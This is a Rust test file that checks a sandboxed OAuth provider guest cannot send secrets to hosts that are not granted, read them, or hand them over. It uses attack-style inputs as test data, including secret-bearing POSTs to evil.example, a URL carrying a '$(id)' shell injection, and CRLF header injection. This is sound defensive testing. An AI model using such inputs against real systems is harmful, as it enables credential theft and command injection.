//! A guest that tries to send a secret where it does not belong, to read one, or to hand one over. Every flow ends
//! with a scan of everything that the host wrote.

use serde_json::json;

use crate::support::guest;
use crate::support::host::without_ports;
use crate::support::provider::{CODE, Endpoint, Flow, SECRET, answer, provider, query};

const TOKEN: &str = r#"{"access_token":"t0~k3n!","token_type":"Bearer","expires_in":3600}"#;

/// The counter-check of the others: what a good provider guest does.
#[test]
fn a_code_is_exchanged_for_a_token_that_the_guest_never_sees() {
    let endpoint = Endpoint::json(TOKEN);
    let (lines, finished) = endpoint.flow().complete(&[
        "form client_secret secret key",
        "form code_verifier verifier",
        &format!("form code text {CODE}"),
        &format!("send POST {}", endpoint.url("/token")),
        "status",
        "get /access_token",
        "get /token_type",
        "get /expires_in",
        "get /refresh_token",
        "get ",
        "hand-over access_token answer /access_token",
    ]);
    assert_eq!(
        lines,
        [
            "send: 200",
            "status: 200",
            "get: secret",
            "get: text Bearer",
            "get: 3600",
            "get: nothing",
            "get: object",
            "hand-over: ok",
        ]
    );
    assert_eq!(finished.stdout, "{\"value\":\"yes\",\"access_token\":\"t0~k3n!\"}\n");
    assert!(!finished.stderr.contains("t0~k"), "{}", finished.stderr);
    let asked = &endpoint.asked()[0];
    assert_eq!(asked.field("client_secret").as_deref(), Some(SECRET));
    assert_eq!(asked.field("code").as_deref(), Some(CODE));
    let verifier = asked.field("code_verifier").unwrap();
    assert_eq!(verifier.len(), 43);
    assert!(!finished.stderr.contains(&verifier) && !finished.stdout.contains(&verifier));
}

#[test]
fn a_secret_from_a_file_arrives_without_its_line_feed() {
    let endpoint = Endpoint::json(TOKEN);
    let file = guest::write("provider-secret.txt", format!("{SECRET}\r\n").as_bytes());
    let host = provider()
        .args(["--allow-net", &endpoint.url("/token"), "--secret"])
        .arg(format!("file=file:{}", file.display()));
    let send = format!("send POST {}", endpoint.url("/token"));
    let (lines, _) = Flow::start(host).complete(&["form token secret file", &send]);
    assert_eq!(lines, ["send: 200"]);
    assert_eq!(endpoint.asked()[0].field("token").as_deref(), Some(SECRET));
}

/// Without PKCE, the code alone is enough for a token. So the answer is sealed although no secret was sent.
#[test]
fn a_public_client_without_pkce_cannot_read_the_token() {
    let endpoint = Endpoint::json(TOKEN);
    let send = format!("send POST {}", endpoint.url("/token"));
    let code = format!("form code text {CODE}");
    let (lines, _) = endpoint.flow().complete(&[&*code, &send, "get /access_token"]);
    assert_eq!(lines, ["send: 200", "get: secret"]);
}

#[test]
fn a_url_that_is_not_granted_is_refused_with_the_flags_that_grant_it() {
    let endpoint = Endpoint::json(TOKEN);
    let (other, near) = (endpoint.url("/other"), endpoint.url("/token/"));
    let mut flow = endpoint.flow();
    let mut steps = Vec::new();
    for url in ["https://evil.example/token", "https://evil.example", &other, &near] {
        steps.push("form client_secret secret key".to_owned());
        steps.push(format!("send POST {url}"));
    }
    assert_eq!(flow.steps(&steps), ["send: not-granted"; 4]);
    let line = flow.host.wait_for_line("refused the guest's request to");
    assert_eq!(
        without_ports(&line),
        "warning: refused the guest's request to `https://evil.example/token`, \
         `https://evil.example`, `http://127.0.0.1:PORT/other`, `http://127.0.0.1:PORT/token/`: \
         it is not granted; allow it with `--allow-net https://evil.example/token \
         --allow-net https://evil.example --allow-net http://127.0.0.1:PORT/other \
         --allow-net http://127.0.0.1:PORT/token/`"
    );
    flow.complete(&[""; 0]);
    assert!(endpoint.asked().is_empty());
}

/// A person copies the flags of a message into a shell. The guest chose the URLs in them.
#[cfg(unix)]
#[test]
fn the_flags_to_copy_contain_no_command_of_the_guest() {
    for url in [
        "https://evil.example/$(id);echo&echo",
        "https://evil.example/'a'!*",
        // The counter-check: a usual URL is not quoted.
        "https://evil.example/token",
    ] {
        let (lines, finished) = Flow::start(provider()).complete(&[format!("send POST {url}")]);
        assert_eq!(lines, ["send: not-granted"], "{url}");
        let (_, hint) = finished.stderr.split_once("allow it with `").unwrap();
        let flags = hint.lines().next().unwrap().strip_suffix('`').unwrap();
        assert_eq!(flags.contains('\''), !url.ends_with("/token"), "{flags}");
        // The shell reads the flag and the URL, and nothing else.
        let script = format!("printf '%s\\n' {flags}");
        let shell = std::process::Command::new("sh").args(["-c", &script]).output().unwrap();
        assert_eq!(String::from_utf8(shell.stdout).unwrap(), format!("--allow-net\n{url}\n"));
    }
}

#[test]
fn a_code_in_the_path_of_a_refused_request_is_redacted() {
    let path = format!("send POST https://evil.example/{CODE}/{CODE}");
    let (lines, finished) = Flow::start(provider()).complete(&[path]);
    assert_eq!(lines, ["send: not-granted"]);
    let shown = "`https://evil.example/[redacted]/[redacted]`";
    assert!(finished.stderr.contains(shown), "{}", finished.stderr);
}

#[test]
fn a_secret_goes_only_whole_and_under_a_listed_name() {
    let endpoint = Endpoint::json(TOKEN);
    let url = endpoint.url("/token");
    let send = format!("send POST {url}");
    for (write, result) in [
        ("form state secret key", "not-allowed-there"),
        ("query state secret key", "not-allowed-there"),
        ("json /client_secret/state secret key", "not-allowed-there"),
        ("form Client_Secret secret key", "not-allowed-there"),
        ("form client_secret[] secret key", "not-allowed-there"),
        ("form state verifier", "not-allowed-there"),
        ("user secret key", "200"),
        ("header authorization Bearer x", "not-allowed-there"),
        ("header cookie a=b", "not-allowed-there"),
        ("header content-type text/plain", "not-allowed-there"),
        ("header content-length 1", "not-allowed-there"),
        ("header x-secret a", "not-allowed-there"),
        ("header user-agent a\r\nx-secret: b", "invalid-request"),
        ("header user-agent a\nb", "invalid-request"),
        ("header user agent", "not-allowed-there"),
        // The counter-checks.
        ("form client_secret secret key", "200"),
        ("query client_secret secret key", "200"),
        ("json /a/client_secret secret key", "200"),
        ("bearer secret key", "200"),
        ("header user-agent probe", "200"),
    ] {
        let (lines, finished) = endpoint.flow().complete(&[write, &send]);
        assert_eq!(lines, [format!("send: {result}")], "{write}: {}", finished.stderr);
    }
    // `user` without `password` sends no credentials. With it, the secret would be the client identifier.
    let steps = ["user secret key", "password text x", &send];
    assert_eq!(endpoint.flow().complete(&steps).0, ["send: not-allowed-there"]);
    let steps = ["user text id", "password secret key", &send];
    assert_eq!(endpoint.flow().complete(&steps).0, ["send: 200"]);
    for asked in endpoint.asked() {
        let body = &asked.body;
        assert!(!asked.head.contains("x-secret") && !body.contains("state="), "{asked:?}");
    }
}

/// `text secret key` is only a text: no part of a URL, a header field or a value can name a secret.
#[test]
fn a_secret_cannot_be_a_part_of_a_text() {
    let endpoint = Endpoint::json(TOKEN);
    let url = endpoint.url("/token");
    let (lines, _) = endpoint.flow().complete(&[
        "form client_secret text half secret key".to_owned(),
        "header user-agent secret key".to_owned(),
        format!("send POST {url}"),
        format!("send POST {url}?a=secret"),
        format!("send POST {url}#secret"),
        format!("send POST {}", url.replace("http://", "http://user:secret@")),
        format!("send POST {}", url.replace("http:", "file:")),
        format!("send POST {}", url.replace("/token", "/x/../token")),
        format!("send POST {}", url.replace("/token", "/%74oken")),
        format!("send POST {url}/secret key"),
    ]);
    let invalid = ["send: invalid-request"; 7];
    assert_eq!((&*lines[0], &lines[1..]), ("send: 200", &invalid.map(str::to_owned)[..]));
    let asked = &endpoint.asked()[0];
    assert_eq!(asked.field("client_secret").as_deref(), Some("half secret key"));
}

/// A granted origin can be read, but neither can it be sent a secret, nor does it include the endpoint.
#[test]
fn a_readable_origin_is_apart_from_its_endpoint() {
    let endpoint = Endpoint::json(r#"{"name":"ada","password":"t0~k3n!"}"#);
    let (root, token, other) = (endpoint.url(""), endpoint.url("/token"), endpoint.url("/other"));
    let host = provider().args(["--allow-net", &token, "--allow-net", &root]);
    let (lines, _) = Flow::start(host).complete(&[
        "form client_secret secret key".to_owned(),
        format!("send POST {other}"),
        "bearer secret key".to_owned(),
        format!("send GET {other}"),
        format!("send GET {token}/"),
        format!("send GET {}", endpoint.url("/TOKEN")),
        format!("send GET {}", endpoint.url("/token;a=b")),
        format!("fetch {token}"),
        format!("fetch {token}?a=b"),
        format!("fetch {token}/"),
        format!("send GET {token}"),
        "get /name".to_owned(),
        format!("send GET {other}"),
        "get /name".to_owned(),
        format!("fetch {other}"),
    ]);
    let denied = "fetch: ErrorCode::HttpRequestDenied";
    let refused = "send: not-granted";
    assert_eq!(
        lines,
        [
            refused,
            refused,
            refused,
            refused,
            refused,
            denied,
            denied,
            denied,
            "send: 200",
            "get: secret",
            "send: 200",
            "get: text ada",
            r#"fetch: 200 {"name":"ada","password":"t0~k3n!"}"#,
        ]
    );
    assert_eq!(endpoint.asked().len(), 3);
}

#[test]
fn only_a_value_from_an_answer_is_handed_over_and_under_a_free_name() {
    let endpoint = Endpoint::json(TOKEN);
    let send = format!("send POST {}", endpoint.url("/token"));
    let (lines, finished) = endpoint.flow().complete(&[
        &*send,
        "hand-over access_token secret key",
        "hand-over access_token verifier",
        "hand-over code_verifier answer /access_token",
        "hand-over nonce answer /access_token",
        "hand-over Redirect-URI answer /access_token",
        "hand-over error answer /access_token",
        "hand-over  answer /access_token",
        "hand-over a\nb answer /access_token",
        "hand-over access_token answer /access_token",
        "hand-over access_token answer /access_token",
        "hand-over Access-Token answer /access_token",
    ]);
    let mut expected = vec!["send: 200"];
    expected.extend(["hand-over: not-from-an-answer"; 2]);
    expected.extend(["hand-over: name"; 6]);
    expected.push("hand-over: ok");
    expected.extend(["hand-over: name"; 2]);
    assert_eq!(lines, expected);
    assert_eq!(finished.stdout, "{\"value\":\"yes\",\"access_token\":\"t0~k3n!\"}\n");
}

/// The guest cannot tell whether an answer contains a secret. Only the person learns of it, and the secret does not
/// become a token.
#[test]
fn a_secret_that_an_endpoint_sends_back_is_not_handed_over_and_the_guest_does_not_learn_of_it() {
    for (step, field) in [
        ("form client_secret secret key", "client_secret"),
        ("form code_verifier verifier", "code_verifier"),
    ] {
        let endpoint = Endpoint::answering(move |asked| {
            let sent = asked.field(field).unwrap_or_default();
            let body = json!({ "repeated": format!("<{sent}>"), "other": "t0~k3n!" }).to_string();
            answer("200 OK", "application/json", &body)
        });
        let send = format!("send POST {}", endpoint.url("/token"));
        let steps = |name| {
            [step.to_owned(), send.clone(), format!("hand-over access_token answer /{name}")]
        };
        let mut flow = endpoint.flow();
        for name in ["repeated", "other"] {
            assert_eq!(flow.steps(&steps(name)), ["send: 200", "hand-over: ok"]);
        }
        let refused =
            flow.host.navigate(&format!("/callback?{}&done=yes", query(&steps("repeated"))));
        assert_eq!(refused.status(), 500);
        flow.host.wait_for_line(
            "the value handed over as `access_token` contains a secret of this run: \
             the provider sent the secret back",
        );
        // Counter-check: the host goes on, and another value becomes the token.
        let (_, finished) = flow.complete(&steps("other"));
        assert_eq!(finished.stdout, "{\"value\":\"yes\",\"access_token\":\"t0~k3n!\"}\n");
    }
}

/// Each call has a fresh instance and a fresh table: a handle, an answer and a value handed over end with their call.
/// The guest of `provider_handles` remembers the numbers of its handles.
#[test]
fn nothing_is_left_for_the_next_call() {
    let endpoint = Endpoint::json(TOKEN);
    let send = format!("send POST {}", endpoint.url("/token"));
    let mut flow = endpoint.flow();
    let first = flow.steps(&[&*send, "hand-over access_token answer /access_token"]);
    assert_eq!(first, ["send: 200", "hand-over: ok"]);
    let (second, finished) = flow.complete(&["status", "hand-over a answer /access_token"]);
    assert_eq!(second, ["status: no answer", "hand-over: no such secret"]);
    assert_eq!(finished.stdout, "{\"value\":\"yes\"}\n");
}
